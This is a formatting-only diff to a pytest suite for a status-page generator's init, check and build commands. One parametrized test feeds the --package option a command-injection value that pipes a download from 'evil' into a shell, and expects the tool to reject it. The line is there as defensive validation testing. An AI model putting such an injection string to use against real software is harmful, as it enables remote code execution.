@@ -40,12 +40,12 @@ def test_init_writes_a_repository(new_site: Path) -> None:
 
 
 def test_the_new_site_checks_strictly_and_builds_as_created(
-        new_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    new_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     assert main(["check", "--source", str(new_site), "--strict", "--now", NOW]) == 0
     assert "0 errors, 0 warnings" in capsys.readouterr().out
     output = tmp_path / "out"
-    assert main(["build", "--source", str(new_site), "--output", str(output),
-                 "--now", NOW]) == 0
+    assert main(["build", "--source", str(new_site), "--output", str(output), "--now", NOW]) == 0
     home = (output / "index.html").read_text(encoding="utf-8")
     assert "Acme Status" in home  # the name comes from the folder: "acme-status" → "Acme"
     assert "All Systems Operational" in home
@@ -61,8 +61,23 @@ def test_the_example_incident_never_becomes_overdue(new_site: Path, later: timed
 def test_name_url_and_package_are_written_where_they_belong(tmp_path: Path) -> None:
     target = tmp_path / "site"
     spec = "git+https://github.com/acme/statusgen@v0.1.0"
-    assert main(["init", str(target), "--name", 'Acme "Cloud": EU', "--url",
-                 "https://acme-status.example/", "--package", spec, "--now", NOW]) == 0
+    assert (
+        main(
+            [
+                "init",
+                str(target),
+                "--name",
+                'Acme "Cloud": EU',
+                "--url",
+                "https://acme-status.example/",
+                "--package",
+                spec,
+                "--now",
+                NOW,
+            ]
+        )
+        == 0
+    )
     checked = check(target, NOW_TIME, strict=True)
     assert checked.content.site.name == 'Acme "Cloud": EU'
     assert checked.content.site.url == "https://acme-status.example/"
@@ -79,7 +94,8 @@ def test_by_default_the_workflows_install_this_version(new_site: Path) -> None:
 
 
 def test_a_folder_in_use_is_refused_and_left_alone(
-        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     target = tmp_path / "site"
     target.mkdir()
     (target / "notes.txt").write_text("mine")
@@ -96,7 +112,8 @@ def test_a_fresh_git_clone_is_a_fine_place_to_start(tmp_path: Path) -> None:
 
 
 def test_force_adds_missing_files_and_never_overwrites(
-        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     target = tmp_path / "site"
     target.mkdir()
     (target / "README.md").write_text("our own readme\n")
@@ -112,11 +129,14 @@ def test_force_adds_no_example_to_a_site_with_incidents(new_site: Path) -> None:
     assert files_in(new_site) == before
 
 
-@pytest.mark.parametrize("option", [
-    ["--url", "status.example.com"],
-    ["--package", 'statusgen"; curl evil | sh; "'],
-    ["--name", ""],
-])
+@pytest.mark.parametrize(
+    "option",
+    [
+        ["--url", "status.example.com"],
+        ["--package", 'statusgen"; curl evil | sh; "'],
+        ["--name", ""],
+    ],
+)
 def test_bad_options_are_wrong_usage(tmp_path: Path, option: list[str]) -> None:
     target = tmp_path / "site"
     assert main(["init", str(target), *option, "--now", NOW]) == 2
